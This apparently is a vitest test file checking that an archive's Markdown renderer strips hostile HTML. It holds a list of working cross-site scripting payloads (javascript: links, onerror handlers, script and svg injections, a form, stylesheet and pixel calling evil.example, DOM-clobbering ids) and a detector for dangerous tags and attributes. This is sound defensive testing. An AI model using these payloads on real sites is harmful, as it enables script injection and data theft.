import fc from 'fast-check';
import type { Element, Root } from 'hast';
import { htmlToHast } from 'satteri';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { PREFIX, renderNote, renderText } from './render.ts';

const links = { resolve: () => null, terms: new Map<string, string>() };

/** What in a page could act, load, submit, restyle it or take the name of something in it. */
function harmIn(html: string): string[] {
  const harm: string[] = [];
  visit(htmlToHast(html, { fragment: true }) as Root, (node) => {
    if (node.type === 'element') harm.push(...harmOf(node));
  });
  return harm;
}

const ELEMENTS =
  /^(script|style|iframe|frame|object|embed|base|meta|link|form|input|button|textarea|select|svg|math|template|noscript|video|audio|source|portal|marquee|dialog)$/;

function harmOf({ tagName, properties }: Element): string[] {
  const harm = ELEMENTS.test(tagName) ? [tagName] : [];
  for (const [name, value] of Object.entries(properties)) {
    const text = String(value);
    if (/^on/i.test(name) || /^(style|srcDoc|srcSet|formAction|action|background|ping|name|target)$/.test(name))
      harm.push(name);
    if (/^(href|src|xLinkHref|cite)$/.test(name) && !isHarmlessAddress(text)) harm.push(`${name}=${text}`);
    if (name === 'src') harm.push(`src=${text}`);
    if (name === 'id' && !/^[st]-/.test(text)) harm.push(`id=${text}`);
  }
  return harm;
}

/** Within the site, or openly to another one. */
function isHarmlessAddress(address: string): boolean {
  const url = URL.parse(address, 'https://archive.test/page/');
  if (!url) return true;
  return url.host === 'archive.test' || /^(https?:\/\/|mailto:)/i.test(address);
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>body{background:url(//evil.example)}</style>',
  '<p style="position:fixed">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.example/x)',
  '[x](\\\\\\\\evil.example/x)',
  '[x](/\\\\evil.example/x)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '# location {#location}',
  '## search {#main}',
  '<a id=main name=search-results>x</a>',
  '<form id=search-results name=location>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '- <details open ontoggle=alert(1)>x</details>',
  'x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x-element onclick=alert(1)>x</x-element>',
  ':::withheld{pages="<script>alert(1)</script>" reason="<img src=x onerror=alert(1)>"}\n:::',
] as const;

/** A block that is none of the archive's stops the build: nothing comes out. */
function renderOrRefuse(markdown: string): string {
  try {
    return renderText(markdown, { prefix: PREFIX.text, ...links }).html;
  } catch (error) {
    expect(String(error)).toContain('is not a block of this archive');
    return '';
  }
}

describe('hostile Markdown comes out harmless', () => {
  test.each(VECTORS)('%s', (vector) => {
    expect(harmIn(renderText(vector, { prefix: PREFIX.text, ...links }).html)).toEqual([]);
    expect(harmIn(renderNote(vector, links))).toEqual([]);
  });

  test('whatever it is made of', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(
        '\n\n',
        '\n',
        '> ',
        '- ',
        '1. ',
        '| ',
        '**',
        '`',
        '[',
        '](',
        ')',
        '<',
        '>',
        '&',
        '{',
        '}',
        '"',
        ' ',
      ),
      fc.string({ maxLength: 12 }),
    );
    const text = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(text, (markdown) => {
        expect(harmIn(renderOrRefuse(markdown))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  test('the check for harm sees harm', () => {
    expect(harmIn('<script></script><a href="javascript:x" onclick="y">z</a><p id="main">')).toEqual([
      'script',
      'href=javascript:x',
      'onClick',
      'id=main',
    ]);
  });
});
